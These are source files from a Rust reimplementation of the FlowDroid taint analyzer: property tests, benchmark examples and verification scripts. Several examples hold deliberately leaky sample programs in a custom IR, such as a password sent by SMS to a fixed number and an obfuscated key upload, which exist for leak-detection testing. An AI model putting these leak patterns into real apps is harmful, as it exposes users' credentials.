    Infoflow::new(&sources, &wrapper, &config).run(&p, &[main]).leak_count()
}

/// Parameters of a generated program: the taint travels through a call
/// chain of `depth` helpers, optionally obfuscated, optionally through
/// a heap field, with `nops` no-ops sprinkled in; `leaky` controls
/// whether the sink sees the tainted or a clean value.
#[derive(Debug, Clone)]
struct Shape {
    depth: usize,
    obfuscate: bool,
    via_field: bool,
    nops: usize,
    leaky: bool,
}

fn shape_strategy() -> impl Strategy<Value = Shape> {
    (0usize..4, any::<bool>(), any::<bool>(), 0usize..4, any::<bool>()).prop_map(
        |(depth, obfuscate, via_field, nops, leaky)| Shape {
            depth,
            obfuscate,
            via_field,
            nops,
            leaky,
        },
    )
}

fn render(shape: &Shape) -> String {
    let mut helpers = String::new();
    for d in 0..shape.depth {
        let next = d + 1;
        let inner = if next == shape.depth {
            "    return x\n".to_owned()
        } else {
            format!(
                "    let r: java.lang.String\n    r = staticinvoke <P: java.lang.String f{next}(java.lang.String)>(x)\n    return r\n"
            )
        };
        helpers.push_str(&format!(
            "  static method f{d}(x: java.lang.String) -> java.lang.String {{\n{inner}  }}\n"
        ));
    }
    let nops = "    nop\n".repeat(shape.nops);
    let mut body = String::new();
    body.push_str("    s = staticinvoke <Env: java.lang.String source()>()\n");
    if shape.depth > 0 {
        body.push_str(
            "    s = staticinvoke <P: java.lang.String f0(java.lang.String)>(s)\n",
        );
    }
    if shape.obfuscate {
        body.push_str("    s = s + \"#\"\n");
    }
    if shape.via_field {
        body.push_str(
            "    h = new P$H\n    specialinvoke h.<P$H: void <init>()>()\n    h.f = s\n    s = h.f\n",
        );
    }
    let sunk = if shape.leaky { "s" } else { "c" };
    format!(
        "class P extends java.lang.Object {{\n  static method main() -> void {{\n    let s: java.lang.String\n    let c: java.lang.String\n    let h: P$H\n    c = \"clean\"\n{nops}{body}    staticinvoke <Env: void sink(java.lang.String)>({sunk})\n    return\n  }}\n{helpers}}}\nclass P$H extends java.lang.Object {{\n  field f: java.lang.String\n  method <init>() -> void {{ return }}\n}}\n"
    )
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    /// Soundness & precision on constructed flows: a program built to
    /// leak reports exactly one leak; a program built clean reports
    /// none.
    #[test]
    fn constructed_flows_are_classified_exactly(shape in shape_strategy()) {
        let code = render(&shape);
        let found = analyze(&code);
        let want = usize::from(shape.leaky);
        prop_assert_eq!(found, want, "shape {:?}\n{}", shape, code);
    }

    /// Determinism: two runs agree.
    #[test]
    fn analysis_is_deterministic(shape in shape_strategy()) {
        let code = render(&shape);
        prop_assert_eq!(analyze(&code), analyze(&code));
    }

    /// Inserting no-ops never changes the verdict.
    #[test]
    fn nop_insertion_is_invariant(shape in shape_strategy()) {
        let mut with_nops = shape.clone();
        with_nops.nops = shape.nops + 3;
        prop_assert_eq!(analyze(&render(&shape)), analyze(&render(&with_nops)));
    }

    /// Appending unreachable leaking code never changes the verdict.
    #[test]
    fn unreachable_suffix_is_invariant(shape in shape_strategy()) {
        let base = analyze(&render(&shape));
        let code = render(&shape).replace(
            "    staticinvoke <Env: void sink(java.lang.String)>",
            "    goto over\n  label dead:\n    staticinvoke <Env: void sink(java.lang.String)>(s)\n  label over:\n    staticinvoke <Env: void sink(java.lang.String)>",
        );
        prop_assert_eq!(analyze(&code), base, "{}", code);
    }

    /// Lengthening the helper chain preserves the verdict (summaries
    /// compose).
    #[test]
    fn deeper_call_chains_are_invariant(shape in shape_strategy()) {
        let mut deeper = shape.clone();
        deeper.depth = shape.depth + 2;
        prop_assert_eq!(analyze(&render(&shape)), analyze(&render(&deeper)));
    }
}
