//! Reproducibility: repeated analyses yield byte-identical reports
//! (the core driver is deterministic by design; paper results must be
//! reproducible run to run).

use flowdroid::android::install_platform;
use flowdroid::droidbench::all_apps;
use flowdroid::prelude::*;

fn full_report(app: &flowdroid::droidbench::BenchApp) -> String {
    let mut p = Program::new();
    let platform = install_platform(&mut p);
    let loaded = app.load(&mut p).unwrap();
    let sources = SourceSinkManager::default_android();
    let wrapper = TaintWrapper::default_rules();
    let config = InfoflowConfig::default();
    let analysis = Infoflow::new(&sources, &wrapper, &config)
        .analyze_app(&mut p, &platform, &loaded, "det");
    let mut report = analysis.results.report(&p);
    // The only nondeterministic field is the wall-clock duration.
    if let Some(pos) = report.find(" propagations, ") {
        report.truncate(pos);
    }
    report
}

#[test]
fn repeated_runs_render_identical_reports() {
    for app in all_apps().iter().filter(|a| a.expected_leaks > 0).take(8) {
        let a = full_report(app);
        let b = full_report(app);
        assert_eq!(a, b, "{} must be deterministic", app.name);
    }
}

#[test]
fn leaks_are_sorted_and_stable() {
    let bank = flowdroid::droidbench::insecurebank::insecure_bank();
    let mut p = Program::new();
    let platform = install_platform(&mut p);
    let loaded = bank.load(&mut p).unwrap();
    let sources = SourceSinkManager::default_android();
    let wrapper = TaintWrapper::default_rules();
    let config = InfoflowConfig::default();
    let analysis = Infoflow::new(&sources, &wrapper, &config)
        .analyze_app(&mut p, &platform, &loaded, "det2");
    let leaks = &analysis.results.leaks;
    assert_eq!(leaks.len(), 7);
    let mut sorted = leaks.clone();
    sorted.sort_by_key(|l| (l.sink, l.source));
    assert_eq!(*leaks, sorted, "reported leaks are in stable order");
}
