//! Runs the reproduced FlowDroid over the whole DroidBench suite and
//! prints the per-app outcomes, the per-category precision/recall
//! table (the same [`ScoreBoard`] schema the ground-truth harness
//! emits) and the Table 1 summary numbers.
//!
//! ```sh
//! cargo run --example droidbench_eval
//! ```

use flowdroid::android::install_platform;
use flowdroid::droidbench::{all_apps, AppScore, ScoreBoard};
use flowdroid::prelude::*;

fn main() {
    let mut board = ScoreBoard::new();
    println!("{:<28} {:>8} {:>8} outcome", "app", "expected", "reported");
    for app in all_apps().iter().filter(|a| a.in_table) {
        let mut program = Program::new();
        let platform = install_platform(&mut program);
        let loaded = app.load(&mut program).expect("suite app loads");
        let sources = SourceSinkManager::default_android();
        let wrapper = TaintWrapper::default_rules();
        let config = InfoflowConfig::default();
        let analysis = Infoflow::new(&sources, &wrapper, &config)
            .analyze_app(&mut program, &platform, &loaded, "eval");
        let found = analysis.results.leak_count();
        let score = AppScore::from_counts(app.expected_leaks, found);
        let outcome = match (score.fp, score.fn_) {
            (0, 0) => "ok",
            (_, 0) => "false alarm(s)",
            (0, _) => "missed",
            _ => "mixed",
        };
        println!("{:<28} {:>8} {:>8} {outcome}", app.name, app.expected_leaks, found);
        board.record(&format!("{:?}", app.category), score);
    }
    println!();
    print!("{}", board.render());
    let total = board.total();
    println!();
    println!(
        "sum: {} correct, {} false alarms, {} missed",
        total.tp, total.fp, total.fn_
    );
    println!(
        "precision {:.0}%  recall {:.0}%  F-measure {:.2}",
        total.precision() * 100.0,
        total.recall() * 100.0,
        total.f_measure()
    );
    assert_eq!((total.tp, total.fp, total.fn_), (26, 4, 2), "paper Table 1");
    println!("droidbench_eval: matches the paper's FlowDroid column ✓");
}
