//! Using your own source/sink lists and taint-wrapper ("shortcut")
//! rules — the paper's §5 extension points — to analyze plain Java-like
//! code with no Android involved (the SecuriBench use case, §6.4).
//!
//! ```sh
//! cargo run --example custom_rules
//! ```

use flowdroid::frontend::layout::ResourceTable;
use flowdroid::prelude::*;

const CODE: &str = r#"
class corp.Crypto {
  static native method fetchKey() -> java.lang.String
  static native method obfuscate(x: java.lang.String) -> java.lang.String
  static native method upload(x: java.lang.String) -> void
}
class corp.Main {
  static method main() -> void {
    let k: java.lang.String
    let o: java.lang.String
    k = staticinvoke <corp.Crypto: java.lang.String fetchKey()>()
    o = staticinvoke <corp.Crypto: java.lang.String obfuscate(java.lang.String)>(k)
    staticinvoke <corp.Crypto: void upload(java.lang.String)>(o)
    return
  }
  static method clean() -> void {
    let c: java.lang.String
    c = "public data"
    staticinvoke <corp.Crypto: void upload(java.lang.String)>(c)
    return
  }
}
"#;

fn main() {
    let mut program = Program::new();
    program.declare_class("java.lang.Object", None, &[]);
    let rt = ResourceTable::new();
    parse_jasm(&mut program, &rt, CODE).expect("code parses");

    // Custom sources/sinks: the key fetch is sensitive, the upload
    // publishes.
    let sources = SourceSinkManager::parse(
        "<corp.Crypto: java.lang.String fetchKey()> -> _SOURCE_\n\
         <corp.Crypto: void upload(java.lang.String)> -> _SINK_",
    )
    .expect("definitions parse");

    // Custom wrapper: obfuscation does NOT sanitize — the result stays
    // tainted. Without this rule the body-less obfuscate() would fall
    // back to the native default anyway; rules make the model explicit.
    let wrapper = TaintWrapper::parse(
        "<corp.Crypto: java.lang.String obfuscate(java.lang.String)> arg0 -> ret",
    )
    .expect("rules parse");

    let config = InfoflowConfig::default();
    let entries = [
        program.find_method("corp.Main", "main").unwrap(),
        program.find_method("corp.Main", "clean").unwrap(),
    ];
    let results = Infoflow::new(&sources, &wrapper, &config).run(&program, &entries);
    println!("{}", results.report(&program));
    assert_eq!(results.leak_count(), 1, "only the key upload leaks");
    println!("custom_rules: key leak found, clean upload stays clean ✓");
}
