//! Full Android pipeline on the paper's Listing 1 app: bundle the app
//! into an RPK archive (the APK substitute), load it back, run the
//! lifecycle-aware analysis and print the leak with its propagation
//! path. Mirrors Figure 4 of the paper end to end.
//!
//! ```sh
//! cargo run --example analyze_app
//! ```

use flowdroid::android::install_platform;
use flowdroid::prelude::*;

const MANIFEST: &str = r#"<manifest package="com.example">
  <application>
    <activity android:name=".LeakageApp">
      <intent-filter><action android:name="android.intent.action.MAIN"/></intent-filter>
    </activity>
  </application>
</manifest>"#;

const LAYOUT: &str = r#"<LinearLayout xmlns:android="http://schemas.android.com/apk/res/android">
  <EditText android:id="@+id/username"/>
  <EditText android:id="@+id/pwdString" android:inputType="textPassword"/>
  <Button android:id="@+id/button1" android:onClick="sendMessage"/>
</LinearLayout>"#;

/// The paper's Listing 1, re-authored in `jasm`.
const CODE: &str = r#"
class com.example.User extends java.lang.Object {
  field name: java.lang.String
  field pwd: java.lang.String
  method <init>(n: java.lang.String, p: java.lang.String) -> void {
    this.name = n
    this.pwd = p
    return
  }
  method getPassword() -> java.lang.String {
    let p: java.lang.String
    p = this.pwd
    return p
  }
}
class com.example.LeakageApp extends android.app.Activity {
  field user: com.example.User
  method onCreate(b: android.os.Bundle) -> void {
    virtualinvoke this.<android.app.Activity: void setContentView(int)>(@layout/main)
    return
  }
  method onRestart() -> void {
    let ut: android.view.View
    let pt: android.view.View
    let uname: java.lang.String
    let pwd: java.lang.String
    let u: com.example.User
    ut = virtualinvoke this.<android.app.Activity: android.view.View findViewById(int)>(@id/username)
    pt = virtualinvoke this.<android.app.Activity: android.view.View findViewById(int)>(@id/pwdString)
    uname = virtualinvoke ut.<java.lang.Object: java.lang.String toString()>()
    pwd = virtualinvoke pt.<java.lang.Object: java.lang.String toString()>()
    if uname == null goto end
    u = new com.example.User
    specialinvoke u.<com.example.User: void <init>(java.lang.String,java.lang.String)>(uname, pwd)
    this.user = u
  label end:
    return
  }
  method sendMessage(v: android.view.View) -> void {
    let u: com.example.User
    let pwd: java.lang.String
    let msg: java.lang.String
    let sms: android.telephony.SmsManager
    u = this.user
    if u == null goto end
    pwd = virtualinvoke u.<com.example.User: java.lang.String getPassword()>()
    msg = "Pwd: " + pwd
    sms = staticinvoke <android.telephony.SmsManager: android.telephony.SmsManager getDefault()>()
    virtualinvoke sms.<android.telephony.SmsManager: void sendTextMessage(java.lang.String,java.lang.String,java.lang.String,java.lang.Object,java.lang.Object)>("+44 020 7321 0905", null, msg, null, null)
  label end:
    return
  }
}
"#;

fn main() {
    // Package the app into an archive and read it back — the same
    // unpack-parse pipeline the paper's Figure 4 shows for APKs.
    let archive = App::bundle(MANIFEST, &[("main", LAYOUT)], CODE);
    let bytes = archive.to_bytes();
    println!("packaged app: {} bytes, {} entries", bytes.len(), archive.len());
    let unpacked = Archive::from_bytes(&bytes).expect("valid archive");

    let mut program = Program::new();
    let platform = install_platform(&mut program);
    let app = App::from_archive(&mut program, &unpacked).expect("valid app");
    println!(
        "loaded package {}: {} classes, {} layouts",
        app.manifest.package,
        app.classes.len(),
        app.layouts.len()
    );

    let sources = SourceSinkManager::default_android();
    let wrapper = TaintWrapper::default_rules();
    let config = InfoflowConfig::default();
    let analysis =
        Infoflow::new(&sources, &wrapper, &config).analyze_app(&mut program, &platform, &app, "app");

    // Show the entry-point model the dummy main was generated from.
    for comp in &analysis.model.components {
        println!(
            "component {} ({:?}): {} lifecycle methods, {} callbacks, layouts {:?}",
            program.class_name(comp.class),
            comp.kind,
            comp.lifecycle.len(),
            comp.callbacks.len(),
            comp.layouts
        );
    }
    println!();
    println!("{}", analysis.results.report(&program));
    assert_eq!(analysis.results.leak_count(), 1, "the password leak");
    println!("analyze_app: password-to-SMS leak found, username stays clean ✓");
}
