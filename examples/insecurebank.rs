//! RQ2: analyzes the InsecureBank app and verifies that all seven
//! ground-truth leaks are found, with full path reports and timing.
//!
//! ```sh
//! cargo run --example insecurebank
//! ```

use flowdroid::android::install_platform;
use flowdroid::droidbench::insecurebank::insecure_bank;
use flowdroid::prelude::*;

fn main() {
    let bank = insecure_bank();
    let mut program = Program::new();
    let platform = install_platform(&mut program);
    let app = bank.load(&mut program).expect("InsecureBank loads");

    let sources = SourceSinkManager::default_android();
    let wrapper = TaintWrapper::default_rules();
    let config = InfoflowConfig::default();
    let start = std::time::Instant::now();
    let analysis = Infoflow::new(&sources, &wrapper, &config)
        .analyze_app(&mut program, &platform, &app, "bank");
    let elapsed = start.elapsed();

    println!("{}", analysis.results.report(&program));
    println!(
        "RQ2: {}/{} leaks in {elapsed:?} (paper: 7/7, ~31 s on a 2010-era laptop)",
        analysis.results.leak_count(),
        bank.expected_leaks
    );
    assert_eq!(analysis.results.leak_count(), 7);
    println!("insecurebank: no false positives nor false negatives ✓");
}
