//! Quickstart: build a tiny app programmatically with the IR builder,
//! configure sources and sinks, run the analysis and print the report.
//!
//! ```sh
//! cargo run --example quickstart
//! ```

use flowdroid::prelude::*;

fn main() {
    // 1. A program with two stub methods acting as source and sink.
    let mut program = Program::new();
    program.declare_class("java.lang.Object", None, &[]);
    let env = program.declare_class("Env", Some("java.lang.Object"), &[]);
    let string_ty = program.ref_type("java.lang.String");
    let src = program.declare_method(env, "secret", vec![], string_ty.clone(), true);
    program.set_native(src, true);
    let snk = program.declare_method(env, "publish", vec![string_ty.clone()], Type::Void, true);
    program.set_native(snk, true);

    // 2. A main method: s = secret(); t = s + "!"; publish(t);
    let main_cls = program.declare_class("demo.Main", Some("java.lang.Object"), &[]);
    let mut b = MethodBuilder::new_static_on(&mut program, main_cls, "main", vec![], Type::Void);
    let s = b.local("s", string_ty.clone());
    let t = b.local("t", string_ty.clone());
    b.call_static(Some(s), "Env", "secret", vec![], string_ty.clone(), vec![]);
    let bang = b.program().intern("!");
    b.assign_local(
        t,
        flowdroid::ir::Rvalue::BinOp(
            flowdroid::ir::BinOp::Add,
            s.into(),
            flowdroid::ir::Operand::Const(flowdroid::ir::Constant::Str(bang)),
        ),
    );
    b.call_static(None, "Env", "publish", vec![string_ty], Type::Void, vec![t.into()]);
    let main = b.finish();

    // 3. Source/sink configuration (SuSi-style text format).
    let sources = SourceSinkManager::parse(
        "<Env: java.lang.String secret()> -> _SOURCE_\n\
         <Env: void publish(java.lang.String)> -> _SINK_",
    )
    .expect("definitions parse");
    let wrapper = TaintWrapper::default_rules();
    let config = InfoflowConfig::default();

    // 4. Run and report.
    let results = Infoflow::new(&sources, &wrapper, &config).run(&program, &[main]);
    println!("{}", results.report(&program));
    assert_eq!(results.leak_count(), 1);
    println!("quickstart: found the expected leak ✓");
}
