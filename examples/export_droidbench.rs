//! Exports the whole DroidBench suite (and InsecureBank) as on-disk
//! app directories, ready for the `flowdroid` CLI:
//!
//! ```sh
//! cargo run --example export_droidbench -- /tmp/droidbench
//! cargo run --bin flowdroid -- analyze /tmp/droidbench/Button1
//! cargo run --bin flowdroid -- permissions /tmp/droidbench/DirectLeak1
//! ```

use flowdroid::droidbench::{all_apps, insecurebank::insecure_bank};
use std::path::PathBuf;

fn main() {
    let out: PathBuf = std::env::args()
        .nth(1)
        .map(Into::into)
        .unwrap_or_else(|| std::env::temp_dir().join("droidbench"));
    let mut count = 0;
    for app in all_apps() {
        let dir = out.join(app.name);
        app.write_to_dir(&dir).expect("write app dir");
        count += 1;
    }
    let bank = insecure_bank();
    bank.write_to_dir(&out.join(bank.name)).expect("write InsecureBank");
    count += 1;
    println!("exported {count} apps to {}", out.display());
    println!("try: cargo run --bin flowdroid -- analyze {}", out.join("Button1").display());
}
