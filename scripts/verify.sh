#!/usr/bin/env bash
# Tier-1 verification gate plus solver statistics.
#
# Usage: scripts/verify.sh [--full]
#   default : tier-1 gate (release build + root tests) + solver stats
#   --full  : additionally runs the whole workspace test suite
set -euo pipefail
cd "$(dirname "$0")/.."

echo "== tier-1: cargo build --release"
cargo build --release

echo "== tier-1: cargo test -q"
cargo test -q

if [[ "${1:-}" == "--full" ]]; then
    echo "== full workspace test suite"
    cargo test --workspace -q
fi

# Snapshot the committed benchmark numbers before solver_stats
# overwrites the file — the regression gate below compares against them.
git show HEAD:BENCH_solver.json > BENCH_solver.baseline.json 2>/dev/null || : > BENCH_solver.baseline.json

echo "== solver stats (writes BENCH_solver.json)"
cargo run --release -p flowdroid-service --bin solver_stats -- BENCH_solver.json >/dev/null

echo "== BENCH_solver.json comparison block"
sed -n '/"comparison"/,$p' BENCH_solver.json

# Allocation/latency regression gate: the default sequential corpus
# sweep must not allocate more than ~5% over the committed baseline,
# and dataflow time must stay within 1.5x (generous — wall time on the
# shared single-core runner is noisy; allocations are deterministic).
mode_field() { # <file> <mode> <field>
    awk -v mode="\"$2\"," -v field="\"$3\":" '
        $1 == "\"mode\":" { in_mode = ($2 == mode) }
        in_mode && $1 == field { gsub(/,/, "", $2); print $2; exit }
    ' "$1"
}
echo "== regression gate vs committed BENCH_solver.json"
base_allocs=$(mode_field BENCH_solver.baseline.json sequential-interned allocations)
base_dataflow=$(mode_field BENCH_solver.baseline.json sequential-interned dataflow_ms)
rm -f BENCH_solver.baseline.json
if [[ -z "${base_allocs}" || -z "${base_dataflow}" ]]; then
    echo "no committed sequential-interned baseline; skipping regression gate"
else
    new_allocs=$(mode_field BENCH_solver.json sequential-interned allocations)
    new_dataflow=$(mode_field BENCH_solver.json sequential-interned dataflow_ms)
    echo "allocations: ${new_allocs} (baseline ${base_allocs}), dataflow_ms: ${new_dataflow} (baseline ${base_dataflow})"
    if ! awk -v new="$new_allocs" -v base="$base_allocs" 'BEGIN { exit !(new <= base * 1.05) }'; then
        echo "FAIL: corpus allocations regressed beyond 5% of the committed baseline" >&2
        exit 1
    fi
    if ! awk -v new="$new_dataflow" -v base="$base_dataflow" 'BEGIN { exit !(new <= base * 1.5) }'; then
        echo "FAIL: corpus dataflow time regressed beyond 1.5x the committed baseline" >&2
        exit 1
    fi
fi

# Warm summary-cache smoke: solver_stats runs the corpus cold-then-warm
# against one cache directory; the warm pass must actually replay stored
# summaries (nonzero hit rate) and skip re-derived path edges.
echo "== warm summary-cache smoke"
warm_hits=$(grep -o '"cache_warm_hits": [0-9]*' BENCH_solver.json | grep -o '[0-9]*$' || true)
edges_saved=$(grep -o '"cache_path_edges_saved": [0-9]*' BENCH_solver.json | grep -o '[0-9]*$' || true)
echo "warm hits: ${warm_hits:-none}, path edges saved: ${edges_saved:-none}"
if [[ -z "${warm_hits}" || "${warm_hits}" -eq 0 ]]; then
    echo "FAIL: warm summary-cache run produced no hits" >&2
    exit 1
fi
if [[ -z "${edges_saved}" || "${edges_saved}" -eq 0 ]]; then
    echo "FAIL: warm summary-cache run saved no path edges" >&2
    exit 1
fi

# Demand-driven frontend: the lazy sweep must produce the same report
# as the eager baseline while leaving bodies undecoded (solver_stats
# exits nonzero otherwise; re-check the counters here for the log).
echo "== demand-driven frontend smoke"
lazy_skipped=$(grep -o '"lazy_bodies_skipped": [0-9]*' BENCH_solver.json | grep -o '[0-9]*$' || true)
lazy_identical=$(grep -o '"lazy_report_identical": [a-z]*' BENCH_solver.json | grep -o '[a-z]*$' || true)
echo "lazy bodies skipped: ${lazy_skipped:-none}, report identical: ${lazy_identical:-none}"
if [[ -z "${lazy_skipped}" || "${lazy_skipped}" -eq 0 ]]; then
    echo "FAIL: demand-driven run skipped no method bodies" >&2
    exit 1
fi
if [[ "${lazy_identical}" != "true" ]]; then
    echo "FAIL: demand-driven leak report diverged from the eager baseline" >&2
    exit 1
fi

# Serving-mode smoke: platform-snapshot round trip, daemon boot from
# the snapshot, cold->warm cache sharing between jobs, warm
# callgraph-cache replay with setup strictly below the cold job's,
# warm setup below dataflow, in-flight cancellation, clean shutdown.
echo "== serving-mode smoke"
scripts/service_smoke.sh

# Service benchmark: floods the daemon with the corpus twice and
# splices per-job wall/queue times into BENCH_solver.json (the binary
# itself gates on warm hits and cold/warm report identity).
echo "== service stats (splices \"service\" into BENCH_solver.json)"
cargo run --release -p flowdroid-service --bin solver_stats -- --mode service BENCH_solver.json >/dev/null
svc_hits=$(grep -o '"warm_summary_hits": [0-9]*' BENCH_solver.json | grep -o '[0-9]*$' || true)
echo "service warm hits: ${svc_hits:-none}"
if [[ -z "${svc_hits}" || "${svc_hits}" -eq 0 ]]; then
    echo "FAIL: service warm pass replayed no summaries" >&2
    exit 1
fi
svc_source=$(grep -o '"snapshot_source": "[a-z]*"' BENCH_solver.json | grep -o '"[a-z]*"$' | tr -d '"' || true)
svc_skipped=$(grep -o '"bodies_skipped_total": [0-9]*' BENCH_solver.json | grep -o '[0-9]*$' || true)
svc_warm_gate=$(grep -o '"warm_setup_below_dataflow": [a-z]*' BENCH_solver.json | grep -o '[a-z]*$' || true)
echo "service snapshot source: ${svc_source:-none}, bodies skipped: ${svc_skipped:-none}, warm setup<=dataflow: ${svc_warm_gate:-none}"
if [[ "${svc_source}" != "file" ]]; then
    echo "FAIL: service benchmark did not boot from the platform snapshot" >&2
    exit 1
fi
if [[ -z "${svc_skipped}" || "${svc_skipped}" -eq 0 ]]; then
    echo "FAIL: service jobs decoded every method body" >&2
    exit 1
fi
if [[ "${svc_warm_gate}" != "true" ]]; then
    echo "FAIL: warm daemon job spent more time in setup than in the data-flow solver" >&2
    exit 1
fi
svc_cg_hits=$(grep -o '"warm_callgraph_hits": [0-9]*' BENCH_solver.json | grep -o '[0-9]*$' || true)
svc_setup_gate=$(grep -o '"warm_setup_below_cold": [a-z]*' BENCH_solver.json | grep -o '[a-z]*$' || true)
echo "service warm callgraph hits: ${svc_cg_hits:-none}, warm setup<cold: ${svc_setup_gate:-none}"
if [[ -z "${svc_cg_hits}" || "${svc_cg_hits}" -eq 0 ]]; then
    echo "FAIL: service warm pass replayed no cached callgraphs" >&2
    exit 1
fi
if [[ "${svc_setup_gate}" != "true" ]]; then
    echo "FAIL: warm pass setup did not drop below the cold pass despite the callgraph cache" >&2
    exit 1
fi

# Fleet-load benchmark: per-tier warm-hit attribution, namespace
# isolation, priority latency, overload backpressure, cancel storm and
# streamed-report identity. The binary gates every phase itself and
# exits nonzero on failure; the checks below re-read the headline
# numbers from the spliced JSON for the log and as a belt-and-braces
# gate (finite p99, rejections observed, a warm hit from every tier).
echo "== service-load stats (splices \"service_load\" into BENCH_solver.json)"
cargo run --release -p flowdroid-service --bin solver_stats -- --mode service-load BENCH_solver.json >/dev/null
for tier in memory local chunk; do
    hits=$(grep -o "\"${tier}_tier_hits\": [0-9]*" BENCH_solver.json | grep -o '[0-9]*$' || true)
    echo "service-load ${tier}-tier warm hits: ${hits:-none}"
    if [[ -z "${hits}" || "${hits}" -eq 0 ]]; then
        echo "FAIL: service-load warm pass replayed nothing from the ${tier} tier" >&2
        exit 1
    fi
done
load_rejected=$(grep -o '"rejected": [0-9]*' BENCH_solver.json | grep -o '[0-9]*$' || true)
load_p99=$(grep -o '"high_p99_ms": [0-9.]*' BENCH_solver.json | grep -o '[0-9.]*$' || true)
echo "service-load overload rejections: ${load_rejected:-none}, high-priority p99: ${load_p99:-non-finite} ms"
if [[ -z "${load_rejected}" || "${load_rejected}" -eq 0 ]]; then
    echo "FAIL: overloaded capped queue rejected nothing" >&2
    exit 1
fi
if [[ -z "${load_p99}" ]]; then
    echo "FAIL: high-priority p99 latency is missing or not finite" >&2
    exit 1
fi
if ! grep -q '"high_p99_below_batch_p99": true' BENCH_solver.json; then
    echo "FAIL: high-priority p99 did not beat batch p99" >&2
    exit 1
fi
if ! grep -q '"namespace_cold_hits": 0' BENCH_solver.json; then
    echo "FAIL: a foreign namespace observed another tenant's summaries" >&2
    exit 1
fi

# Ground-truth harness: generate the seeded synthetic corpus, sweep the
# full engine matrix (sequential/parallel x hash/bitset x eager/lazy x
# cold/warm caches, at 1 and 4 taint threads) and serve the packed
# archives through a daemon under the --allow-apps policy. The binary
# gates byte-identical reports, manifest agreement, the k-limit probe
# and the daemon leg itself; the checks below re-read the headline
# fields from the spliced JSON.
echo "== ground-truth stats (splices \"ground_truth\" into BENCH_solver.json)"
cargo run --release -p flowdroid-service --bin solver_stats -- --mode ground-truth BENCH_solver.json >/dev/null
gt_apps=$(grep -o '"k_limit_apps": [0-9]*' BENCH_solver.json | grep -o '[0-9]*$' || true)
gt_divergent=$(grep -o '"divergent_pairs": [0-9]*' BENCH_solver.json | grep -o '[0-9]*$' || true)
gt_drift=$(grep -o '"drift_apps": [0-9]*' BENCH_solver.json | grep -o '[0-9]*$' || true)
echo "ground-truth: divergent engine pairs: ${gt_divergent:-none}, drifted apps: ${gt_drift:-none}, widening apps: ${gt_apps:-none}"
if [[ "${gt_divergent:-1}" -ne 0 ]]; then
    echo "FAIL: engine configurations disagreed on the ground-truth corpus" >&2
    exit 1
fi
if [[ "${gt_drift:-1}" -ne 0 ]]; then
    echo "FAIL: reference engine drifted from a ground-truth manifest" >&2
    exit 1
fi
if ! grep -q '"constructive_precision": 1.0000' BENCH_solver.json; then
    echo "FAIL: constructive ground-truth corpus precision below 1.0" >&2
    exit 1
fi
if ! grep -q '"constructive_recall": 1.0000' BENCH_solver.json; then
    echo "FAIL: constructive ground-truth corpus recall below 1.0" >&2
    exit 1
fi
if ! grep -q '"icc_linked_ok": true' BENCH_solver.json; then
    echo "FAIL: linked-ICC leak counts diverged from the manifests" >&2
    exit 1
fi
if ! grep -q '"daemon_external_ok": true' BENCH_solver.json; then
    echo "FAIL: daemon-served .rpk reports diverged from local runs" >&2
    exit 1
fi
if ! grep -q '"policy_denied_works": true' BENCH_solver.json; then
    echo "FAIL: the --allow-apps path policy accepted an outside path" >&2
    exit 1
fi

echo "verify: OK"
