#!/usr/bin/env bash
# Tier-1 verification gate plus solver statistics.
#
# Usage: scripts/verify.sh [--full]
#   default : tier-1 gate (release build + root tests) + solver stats
#   --full  : additionally runs the whole workspace test suite
set -euo pipefail
cd "$(dirname "$0")/.."

echo "== tier-1: cargo build --release"
cargo build --release

echo "== tier-1: cargo test -q"
cargo test -q

if [[ "${1:-}" == "--full" ]]; then
    echo "== full workspace test suite"
    cargo test --workspace -q
fi

echo "== solver stats (writes BENCH_solver.json)"
cargo run --release -p flowdroid-bench --bin solver_stats -- BENCH_solver.json >/dev/null

echo "== BENCH_solver.json comparison block"
sed -n '/"comparison"/,$p' BENCH_solver.json

echo "verify: OK"
