#!/usr/bin/env bash
# Tier-1 verification gate plus solver statistics.
#
# Usage: scripts/verify.sh [--full]
#   default : tier-1 gate (release build + root tests) + solver stats
#   --full  : additionally runs the whole workspace test suite
set -euo pipefail
cd "$(dirname "$0")/.."

echo "== tier-1: cargo build --release"
cargo build --release

echo "== tier-1: cargo test -q"
cargo test -q

if [[ "${1:-}" == "--full" ]]; then
    echo "== full workspace test suite"
    cargo test --workspace -q
fi

echo "== solver stats (writes BENCH_solver.json)"
cargo run --release -p flowdroid-service --bin solver_stats -- BENCH_solver.json >/dev/null

echo "== BENCH_solver.json comparison block"
sed -n '/"comparison"/,$p' BENCH_solver.json

# Warm summary-cache smoke: solver_stats runs the corpus cold-then-warm
# against one cache directory; the warm pass must actually replay stored
# summaries (nonzero hit rate) and skip re-derived path edges.
echo "== warm summary-cache smoke"
warm_hits=$(grep -o '"cache_warm_hits": [0-9]*' BENCH_solver.json | grep -o '[0-9]*$' || true)
edges_saved=$(grep -o '"cache_path_edges_saved": [0-9]*' BENCH_solver.json | grep -o '[0-9]*$' || true)
echo "warm hits: ${warm_hits:-none}, path edges saved: ${edges_saved:-none}"
if [[ -z "${warm_hits}" || "${warm_hits}" -eq 0 ]]; then
    echo "FAIL: warm summary-cache run produced no hits" >&2
    exit 1
fi
if [[ -z "${edges_saved}" || "${edges_saved}" -eq 0 ]]; then
    echo "FAIL: warm summary-cache run saved no path edges" >&2
    exit 1
fi

# Serving-mode smoke: daemon boot, cold->warm cache sharing between
# jobs, in-flight cancellation, clean shutdown.
echo "== serving-mode smoke"
scripts/service_smoke.sh

# Service benchmark: floods the daemon with the corpus twice and
# splices per-job wall/queue times into BENCH_solver.json (the binary
# itself gates on warm hits and cold/warm report identity).
echo "== service stats (splices \"service\" into BENCH_solver.json)"
cargo run --release -p flowdroid-service --bin solver_stats -- --mode service BENCH_solver.json >/dev/null
svc_hits=$(grep -o '"warm_summary_hits": [0-9]*' BENCH_solver.json | grep -o '[0-9]*$' || true)
echo "service warm hits: ${svc_hits:-none}"
if [[ -z "${svc_hits}" || "${svc_hits}" -eq 0 ]]; then
    echo "FAIL: service warm pass replayed no summaries" >&2
    exit 1
fi

echo "verify: OK"
