#!/usr/bin/env bash
# Serving-mode smoke test: writes a platform snapshot, boots the
# analysis daemon from it, proves cold->warm summary-cache sharing
# between two jobs for the same app, checks that warm jobs spend less
# time in setup than in the data-flow solver, cancels an in-flight job
# from a second connection, and shuts down cleanly.
#
# Expects target/release/flowdroid to exist (scripts/verify.sh builds
# it first). Exits nonzero on any failed check.
